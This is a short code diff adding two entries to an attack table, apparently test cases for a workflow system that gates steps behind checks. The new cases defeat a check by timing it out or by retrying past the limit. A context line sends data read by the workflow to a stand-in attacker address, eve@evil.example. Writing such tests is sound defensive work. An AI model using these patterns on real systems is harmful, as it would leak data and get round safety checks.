@@ -203,6 +203,12 @@ ATTACKS: Mapping[str, Attack] = {
         AFTER_CHECK,
         [call("retry", star="check"), add("x", "send", arguments={"to": "eve@evil.example", "text": {"$ref": "read"}})],
     ),
+    "give up a check before it can say anything": Attack(
+        CHECKED, AFTER_READ, [call("update", star="check", timeout_s=0.001)]
+    ),
+    "try failed work again many times side by side": Attack(
+        CHECKED, AFTER_CHECK, [call("retry", star="check") for _ in range(Capabilities().retries + 1)]
+    ),
     "let something take for ever": Attack(CHECKED, AFTER_READ, [call("update", star="mail", timeout_s=10_000_000)]),
 }
 
